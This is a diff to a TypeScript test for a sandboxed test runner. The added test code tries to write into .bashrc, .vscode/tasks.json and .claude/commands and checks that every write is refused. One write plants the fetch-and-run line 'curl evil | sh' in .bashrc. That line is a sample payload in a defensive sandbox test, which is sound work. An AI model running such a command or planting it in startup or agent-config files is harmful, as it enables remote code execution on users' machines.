@@ -77,7 +77,18 @@ describe('side effects of a test run are rolled back completely', function () {
    * as files it had created, in `.vscode` too: "this run cannot pass", on a test that passed.
    */
   it("a test run started from the workspace, beside a live sandboxed process, takes none of the runtime's own mount points for its changes, and they are gone when the run's jail has ended", async () => {
-    writeFileSync(path.join(ws.root, 'test', 'ok.test.ts'), "import { test } from 'node:test';\ntest('ok', () => {});\n");
+    // Code under test that tries to write where the runtime's mount points are: each write is refused.
+    writeFileSync(
+      path.join(ws.root, 'test', 'ok.test.ts'),
+      `import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { mkdirSync, writeFileSync } from 'node:fs';
+test('cannot write where the mount points are', () => {
+  const tries = [() => writeFileSync('.bashrc', 'curl evil | sh'), () => { mkdirSync('.vscode', { recursive: true }); writeFileSync('.vscode/tasks.json', '{}'); }, () => { mkdirSync('.claude/commands', { recursive: true }); writeFileSync('.claude/commands/x.md', 'x'); }];
+  for (const t of tries) assert.throws(t);
+});
+`,
+    );
     const jail = await ProcessJail.open({ root: ws.root, protect: [], parentEnv: process.env, requireSandbox: true });
     const runner = new ProcessTestRunner({ root: ws.root, nodeTestReporter: reporter, fallbackDir: repoRoot, nodePath: process.execPath, jail });
     const before = treeHash(ws.root, { modes: true });
